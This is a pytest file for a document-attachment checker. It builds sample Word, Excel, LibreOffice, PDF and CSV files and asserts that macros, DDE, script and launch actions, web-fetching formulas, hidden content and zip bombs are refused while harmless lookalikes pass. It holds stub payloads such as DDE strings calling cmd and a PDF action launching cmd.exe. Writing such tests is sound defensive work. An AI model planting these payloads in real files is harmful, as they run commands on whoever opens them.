"""Files that run, load or hide something are refused, each by its own sentence.

Beside each stands what is honest and looks alike, which is accepted.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from safety_plan.core.problems import Location
from safety_plan.reading.attachments.read_attachment import attachment_problems, read_attachment
from tests.office_files import (
    CELL,
    excel,
    field,
    ods,
    pdf,
    properties,
    relations,
    styles,
    word,
    zipped,
)

_WORD_RELS = "word/_rels/document.xml.rels"
_HIDDEN_RUN = "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>The name</w:t></w:r></w:p>"
_SHOWN_RUN = '<w:p><w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t>Words</w:t></w:r></w:p>'
_ROWS = '<sheetData><row r="1"><c r="A1"><v>1</v></c></row>{}</sheetData>'
_FORMULA = '<sheetData><row r="1"><c r="B1"><f>{}</f><v>1</v></c></row></sheetData>'


def formula(text: str) -> bytes:
    return excel(_FORMULA.format(text.replace("&", "&amp;")))


def odf_formula(text: str) -> bytes:
    cell = f'<table:table-cell table:formula="{text}"><text:p>1</text:p></table:table-cell>'
    return ods(f"<table:table-row>{cell}</table:table-row>")


def note(kind: str) -> str:
    return f"/Annots [<< /Type /Annot /Subtype /{kind} /Rect [0 0 9 9] /Contents (x) >>]"


def link(target: str) -> bytes:
    press = f"/A << /S /URI /URI ({target}) >>"
    return pdf(page=f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] {press} >>]")


def layers(usual: str) -> bytes:
    return pdf(
        catalog=f"/OCProperties << /OCGs [100 0 R] /D << {usual} >> >>",
        objects=("<< /Type /OCG /Name (Names) >>",),
    )


def based_on(name: str, more: str) -> str:
    child = f'<w:style w:styleId="r"><w:basedOn w:val="{name}"/>{more}</w:style>'
    return styles(name).replace("</w:styles>", f"{child}</w:styles>")


def action(name: str, more: str = "") -> bytes:
    return pdf(catalog=f"/OpenAction << /S /{name} {more} >>")


#: By what is in it: the name of the file, its bytes, and the message.
HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "macros of Word": (
        "a.docx",
        word(
            parts={"word/vbaProject.bin": b"\xd0"},
            types={"word/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
        ),
        "file-runs.macros",
    ),
    "macros under another name": (
        "a.docx",
        word(
            parts={"word/media/picture.png": b"\xd0"},
            types={"word/media/picture.png": "application/vnd.ms-office.vbaProject"},
        ),
        "file-runs.macros",
    ),
    "a macro sheet of Excel 4": (
        "a.xlsx",
        excel(
            parts={"xl/sheets/s.xml": "<a/>"},
            types={"xl/sheets/s.xml": "application/vnd.ms-excel.macrosheet+xml"},
        ),
        "file-runs.macros",
    ),
    "a file with macros, renamed": (
        "a.docx",
        word(
            parts={"word/x.xml": "<a/>"},
            types={"word/x.xml": "application/vnd.ms-word.document.macroEnabled.main+xml"},
        ),
        "file-kind.macros",
    ),
    "a control": ("a.docx", word(parts={"word/activeX/a.bin": b"1"}), "file-runs.controls"),
    "an object": ("a.docx", word(parts={"word/embeddings/o.bin": b"1"}), "file-runs.objects"),
    "the workbook of a chart": (
        "a.docx",
        word(parts={"word/embeddings/Microsoft_Excel_Sheet.xlsx": excel()}),
        "file-runs.objects",
    ),
    "an add-in": (
        "a.docx",
        word(parts={"word/webextensions/webextension1.xml": "<a/>"}),
        "file-runs.extensions",
    ),
    "a template from the web": (
        "a.docx",
        word(parts={"word/_rels/settings.xml.rels": relations(("attachedTemplate", "http://x"))}),
        "file-runs.template",
    ),
    "a picture from the web": (
        "a.docx",
        word(parts={_WORD_RELS: relations(("image", "https://x.example/a.png"))}),
        "file-runs.linked",
    ),
    "a link to a folder of the council": (
        "a.docx",
        word(parts={_WORD_RELS: relations(("hyperlink", "file:///S:/Staff/list.docx"))}),
        "file-runs.link",
    ),
    "another document taken in": (
        "a.docx",
        word(parts={_WORD_RELS: relations(("aFChunk", "x.html"), external=False)}),
        "file-runs.chunk",
    ),
    "DDE in a field": ("a.docx", word(field(' DDEAUTO "c:\\\\cmd" x')), "file-runs.dde"),
    "a field that fetches": (
        "a.docx",
        word(field(' INCLUDEPICTURE "https://x.example/a"')),
        "file-runs.field",
    ),
    "tracked changes": (
        "a.docx",
        word('<w:p><w:ins w:author="J"><w:r><w:t>new</w:t></w:r></w:ins></w:p>'),
        "file-unseen.changes",
    ),
    "changes of looks": (
        "a.docx",
        word("<w:p><w:r><w:rPr><w:b/><w:rPrChange><w:rPr/></w:rPrChange></w:rPr></w:r></w:p>"),
        "file-unseen.changes",
    ),
    "comments": (
        "a.docx",
        word(parts={"word/comments.xml": '<w:comments xmlns:w="x/wordprocessingml/y">'
                    '<w:comment w:author="J"/></w:comments>'}),
        "file-unseen.comments",
    ),
    "hidden text": ("a.docx", word(_HIDDEN_RUN), "file-unseen.text"),
    "hidden text by its style": (
        "a.docx",
        word(
            '<w:p><w:pPr><w:pStyle w:val="q"/></w:pPr><w:r><w:t>The name</w:t></w:r></w:p>',
            parts={"word/styles.xml": styles("q")},
        ),
        "file-unseen.text",
    ),
    "a locked file of today": (
        "a.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
        "file-unread-inside.locked",
    ),
    "an old file, renamed": (
        "a.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100,
        "file-kind.old",
    ),
    "a bomb": ("a.docx", b"", "file-unread-inside.unpacked"),  # made when it is asked for
    "entities": (
        "a.docx",
        word(parts={"word/x.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        "file-unread-inside",
    ),
    "one part twice": ("a.docx", word(parts={"WORD/document.xml": "<a/>"}), "file-unread-inside"),
    "a hidden sheet": (
        "a.xlsx",
        excel(sheets='<sheet name="Names" state="veryHidden"/><sheet name="A"/>'),
        "file-unseen.sheets",
    ),
    "a hidden row": (
        "a.xlsx",
        excel(_ROWS.format('<row r="2" hidden="1"><c r="A2"><v>2</v></c></row>')),
        "file-unseen.rows",
    ),
    "a hidden column": (
        "a.xlsx",
        excel('<cols><col min="1" max="2" hidden="1"/></cols>' + _ROWS.format("")),
        "file-unseen.columns",
    ),
    "a pivot table": (
        "a.xlsx",
        excel(
            parts={"xl/pivotCache/r.xml": "<a/>"},
            types={"xl/pivotCache/r.xml": "x.spreadsheetml.pivotCacheRecords+xml"},
        ),
        "file-unseen.pivot",
    ),
    "links to another workbook": (
        "a.xlsx",
        excel(
            parts={"xl/externalLinks/externalLink1.xml": "<a/>"},
            types={"xl/externalLinks/externalLink1.xml": "x.spreadsheetml.externalLink+xml"},
        ),
        "file-runs.data",
    ),
    "DDE in a formula": ("a.xlsx", formula("cmd|'/c calc'!A1"), "file-runs.dde"),
    "a formula that asks the web": (
        "a.xlsx",
        formula('WEBSERVICE("https://x.example/"&A1)'),
        "file-runs.web",
    ),
    "comments in cells": (
        "a.xlsx",
        excel(parts={"xl/comments1.xml": "<comments><comment/></comments>"}),
        "file-unseen.comments",
    ),
    "macros of LibreOffice": (
        "a.ods",
        ods(parts={"Basic/Standard/Module1.xml": "<a/>"}),
        "file-runs.macros",
    ),
    "a script on opening": (
        "a.ods",
        ods(before='<office:event-listeners><script:event-listener script:language="x"/>'
                   "</office:event-listeners>"),
        "file-runs.macros",
    ),
    "a sheet of another file": (
        "a.ods",
        ods(
            '<table:table-source xlink:href="../b.ods"/>'
            f"<table:table-row>{CELL}</table:table-row>"
        ),
        "file-runs.data",
    ),
    "DDE of LibreOffice": (
        "a.ods",
        odf_formula("of:=DDE(&quot;soffice&quot;;&quot;a.ods&quot;;&quot;a&quot;)"),
        "file-runs.dde",
    ),
    "a picture of LibreOffice from the web": (
        "a.ods",
        ods(before='<draw:frame><draw:image xlink:href="https://x.example/a.png"/></draw:frame>'),
        "file-runs.linked",
    ),
    "a sheet that its style hides": (
        "a.ods",
        ods(style='<style:style style:name="ta1"><style:table-properties table:display="false"/>'
                  "</style:style>"),
        "file-unseen.sheets",
    ),
    "a filtered row": (
        "a.ods",
        ods(f'<table:table-row table:visibility="filter">{CELL}</table:table-row>'),
        "file-unseen.rows",
    ),
    "a hidden column of LibreOffice": (
        "a.ods",
        ods('<table:table-column table:visibility="collapse"/>'
            f"<table:table-row>{CELL}</table:table-row>"),
        "file-unseen.columns",
    ),
    "a spreadsheet with a password": (
        "a.ods",
        ods(manifest="<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>"),
        "file-unread-inside.locked",
    ),
    "a script": ("a.pdf", action("JavaScript", "/JS (app.alert\\(1\\))"), "file-runs.script"),
    "a script of a field": (
        "a.pdf",
        pdf(catalog="/AcroForm << /Fields [<< /AA << /K << /S /JavaScript /JS (x) >> >> >>] >>"),
        "file-runs.script",
    ),
    "a program": ("a.pdf", action("Launch", "/F (cmd.exe)"), "file-runs.program"),
    "a form that sends": ("a.pdf", action("SubmitForm", "/F (x)"), "file-runs.form"),
    "a form of XFA": ("a.pdf", pdf(catalog="/AcroForm << /XFA [] >>"), "file-runs.form"),
    "a file inside": (
        "a.pdf",
        pdf(catalog="/Names << /EmbeddedFiles << /Names [(a) 100 0 R] >> >>",
            objects=("<< /Type /Filespec /F (a.exe) /EF << /F 101 0 R >> >>",
                     "<< /Length 1 >>\nstream\nx\nendstream")),
        "file-runs.objects",
    ),
    "an address that is called up on opening": (
        "a.pdf", action("URI", "/URI (https://x.example)"), "file-runs.opens"
    ),
    "an address that is called up after a step": (
        "a.pdf",
        pdf(page="/AA << /O << /S /GoTo /D [10 0 R /Fit]"
                 " /Next << /S /URI /URI (https://x.example) >> >> >>"),
        "file-runs.opens",
    ),
    "a link to a drive": ("a.pdf", link("file:///C:/Users/jsmith/list.docx"), "file-runs.link"),
    "a link that is a program": ("a.pdf", link("javascript:alert"), "file-runs.link"),
    "words that somebody wrote on a page": (
        "a.pdf", pdf(page=note("FreeText")), "file-unseen.comments-of-page"
    ),
    "a layer that is off": (
        "a.pdf", layers("/OFF [100 0 R]"), "file-unseen.layers"
    ),
    "layers that are all off": ("a.pdf", layers("/BaseState /OFF"), "file-unseen.layers"),
    "a table in semicolons": ("a.csv", b"a;b\n1,5;2\n", "csv-separator"),
    "a table in tabs": ("a.csv", b"a\tb\n1\t2\n", "csv-separator"),
    "an order to Excel": ("a.csv", b"sep=;\na;b\n1;2\n", "csv-separator.line"),
    "no rows at all": ("a.csv", b" \n", "csv-empty.attachment"),
    "a formula below a line break": ("a.csv", b'a,b\n"x\n=1+1",2\n', "csv-line-break"),
    "a sum that starts with a plus": ("a.csv", b"a,b\n+44-1234,2\n", "csv-formula"),
    "macros by the relation alone": (
        "a.docx",
        word(parts={"word/x.bin": b"1",
                    _WORD_RELS: relations(("vbaProject", "x.bin"), external=False)}),
        "file-runs.macros",
    ),
    "hidden text by the style of its style": (
        "a.docx",
        word(
            '<w:p><w:pPr><w:pStyle w:val="r"/></w:pPr><w:r><w:t>The name</w:t></w:r></w:p>',
            parts={"word/styles.xml": based_on("q", "")},
        ),
        "file-unseen.text",
    ),
    "a picture that a formula fetches": (
        "a.xlsx", formula('_xlfn.IMAGE("https://x.example/a.png")'), "file-runs.web"
    ),
    "a row of no height": (
        "a.xlsx",
        excel(_ROWS.format('<row r="2" ht="0" customHeight="1"><c r="A2"><v>2</v></c></row>')),
        "file-unseen.rows",
    ),
    "a sheet whose rows are all hidden": (
        "a.xlsx", excel('<sheetFormatPr zeroHeight="1"/>' + _ROWS.format("")), "file-unseen.rows"
    ),
    "a film": ("a.pdf", pdf(page=note("RichMedia")), "file-runs.film"),
    "a link to a file of one's own": ("a.pdf", action("GoToR", "/F (S:/list.pdf)"),
                                      "file-runs.link"),
    "a comment in a PDF": ("a.pdf", pdf(page=note("Highlight")), "file-unseen.comments-of-page"),
    "a redaction that was never applied": (
        "a.pdf", pdf(page=note("Redact")), "file-unseen.redaction"
    ),
    "half a PDF": ("a.pdf", pdf()[:300], "file-unread-inside"),
    "a formula in a CSV file": ("a.csv", b"a,b\n1,=cmd|x\n", "csv-formula"),
    "a formula in a heading": ("a.csv", b"a,=1+1\n1,2\n", "csv-formula"),
    "a PDF that is called a Word file": ("a.docx", pdf(), "file-kind.named"),
    "a workbook that is called a table": ("a.csv", excel(), "file-kind.named"),
    "text that is called a PDF": ("a.pdf", b"Hello", "file-kind.empty"),
    "a film of a meeting": ("a.mp4", b"\0\0\0\x18ftypmp42", "file-kind.film"),
    "an archive": ("a.zip", zipped({"a.exe": "x"}), "file-kind.archive"),
    "an archive that is called a Word file": ("a.docx", zipped({"a.exe": "x"}),
                                              "file-kind.archive"),
    "a picture": ("a.png", b"\x89PNG", "file-kind.image"),
}  # fmt: skip

HONEST: dict[str, tuple[str, bytes]] = {
    "plain words": ("a.docx", word()),
    "a link to the web and by email": (
        "a.docx",
        word(parts={_WORD_RELS: relations(("hyperlink", "https://x.example"),
                                          ("hyperlink", "mailto:a@b.example"))}),
    ),
    "fields that count and lead on": (
        "a.docx",
        word(field(" PAGE ") + field(' TOC \\o "1-3" ') + field(' HYPERLINK "https://x.example"')),
    ),
    "a prompt of a template": ("a.docx", word(field(" MACROBUTTON NoMacro [Write here] "))),
    "text that is shown again": ("a.docx", word(_SHOWN_RUN)),
    "a style that hides and nobody uses": (
        "a.docx", word(parts={"word/styles.xml": styles("q")})
    ),
    "a list of people with nobody in it": (
        "a.docx", word(parts={"word/comments.xml": '<w:comments xmlns:w="x"/>'})
    ),
    "settings of a printer": (
        "a.xlsx", excel(parts={"xl/printerSettings/printerSettings1.bin": b"1"})
    ),
    "empty columns and rows that are hidden": (
        "a.xlsx",
        excel('<cols><col min="2" max="16384" hidden="1"/></cols>'
              + _ROWS.format('<row r="2" hidden="1"><c r="A2"/></row>')),
    ),
    "formulas that add up": ("a.xlsx", formula('SUM(A1:A9)&" of a|b! (c)"')),
    "sheets, one of them a chart": (
        "a.xlsx", excel(sheets='<sheet name="A"/><sheet name="B" state="visible"/>')
    ),
    "a chart of LibreOffice": (
        "a.ods",
        ods(before='<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>',
            parts={"Object 1/content.xml": "<a/>"},
            manifest='<manifest:file-entry manifest:full-path="Object 1/"'
                     ' manifest:media-type="application/vnd.oasis.opendocument.chart"/>'),
    ),
    "a link in a cell": (
        "a.ods",
        ods('<table:table-row><table:table-cell><text:p><text:a xlink:href="https://x.example">'
            "Words</text:a></text:p></table:table-cell></table:table-row>"),
    ),
    "empty rows that are hidden": (
        "a.ods",
        ods(f'<table:table-row>{CELL}</table:table-row><table:table-row'
            ' table:visibility="collapse" table:number-rows-repeated="1000"/>'),
    ),
    "a PDF that opens at its first page": (
        "a.pdf", pdf(catalog="/OpenAction [10 0 R /XYZ null null 0]")
    ),
    "a PDF with links": (
        "a.pdf",
        pdf(page="/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9]"
                 " /A << /S /URI /URI (https://x.example) >> >>]"),
    ),
    "a layer that is on": ("a.pdf", layers("/ON [100 0 R]")),
    "a telephone number and lines of an address": (
        "a.csv", b'a,b\n+44 (0)1234 567890,"1 Mill Lane\nFernbrook"\n'
    ),
    "a list whose heading has a semicolon": ("a.csv", b"what; why\nLamps\nTrees; shade\n"),
    "a style that shows what its style hides": (
        "a.docx",
        word(
            '<w:p><w:pPr><w:pStyle w:val="r"/></w:pPr><w:r><w:t>Words</w:t></w:r></w:p>',
            parts={"word/styles.xml": based_on("q", '<w:rPr><w:vanish w:val="0"/></w:rPr>')},
        ),
    ),
    "a low row, and one that is shown where others are not": (
        "a.xlsx",
        excel('<sheetFormatPr zeroHeight="1"/><sheetData>'
              '<row r="1" ht="6"><c r="A1"><v>1</v></c></row></sheetData>'),
    ),
    "a form to fill in on paper": ("a.pdf", pdf(catalog="/AcroForm << /Fields [] >>")),
    "a table with Windows line ends": ("a.csv", b"area,rate\r\nNorth,-1.5\r\n"),
    "a table with a byte-order mark": ("a.csv", "\ufeffarea,rate\nNorth,1\n".encode()),
}  # fmt: skip


def keys(tmp_path: Path, name: str, content: bytes) -> list[str]:
    """The keys of the messages about a file, told apart by their sentences."""
    from safety_plan.core.messages import load_rule

    file = tmp_path / name
    file.write_bytes(content)
    problems = attachment_problems(file, Location(f"docs/files/{name}"))
    return [
        key
        for one in problems
        for key, message in load_rule(one.rule).messages.items()
        if one.found.startswith(message.found.split("{")[0])
        and one.found.endswith(message.found.rpartition("}")[2])
        and message.fix.split("{")[0] in one.fix
    ]


@pytest.mark.parametrize("what", HOSTILE)
def test_what_runs_loads_or_hides_is_refused_by_its_own_sentence(what: str, tmp_path: Path):
    name, content, key = HOSTILE[what]
    if what == "a bomb":
        content = zipped({"word/document.xml": b"\0" * 110_000_000})

    assert key in keys(tmp_path, name, content)


@pytest.mark.parametrize("what", HONEST)
def test_honest_work_is_accepted(what: str, tmp_path: Path):
    name, content = HONEST[what]

    assert keys(tmp_path, name, content) == []


def test_what_a_file_says_of_itself_is_read_from_it(tmp_path: Path):
    contents = {
        "a.pdf": pdf("One", "Two", author="J Smith"),
        "b.docx": word(parts={"docProps/core.xml": properties("J Smith", "Survey")}),
        "c.xlsx": excel(sheets='<sheet name="A"/><sheet name="B"/>'),
        "d.ods": ods(author="J Smith"),
        "e.csv": b"a,b\n1,2\n3,4\n\n",
    }
    read = {}
    for name, content in contents.items():
        (tmp_path / name).write_bytes(content)
        read[name] = read_attachment(tmp_path / name)
    found = {name: one.contents for name, one in read.items() if one}

    assert {name: one.count for name, one in found.items()} == {
        "a.pdf": 2, "b.docx": 0, "c.xlsx": 2, "d.ods": 1, "e.csv": 2,
    }  # fmt: skip
    assert {name for name, one in found.items() if one.people == ("J Smith",)} == {
        "a.pdf", "b.docx", "d.ods",
    }  # fmt: skip
    pdf_contents = found["a.pdf"]
    assert (pdf_contents.title, pdf_contents.language) == ("Lighting survey", "en-GB")
    assert pdf_contents.has_tags
    assert found["b.docx"].title == "Survey"


def test_no_bytes_at_all_make_a_reader_raise(tmp_path: Path):
    whole = {"a.pdf": pdf(), "a.docx": word(), "a.xlsx": excel(), "a.ods": ods()}
    for name, content in whole.items():
        for cut in range(0, len(content), 97):
            file = tmp_path / name
            file.write_bytes(content[:cut] + b"\xff" + content[cut + 1 :])
            attachment_problems(file, Location(f"docs/files/{name}"))
            read_attachment(file)
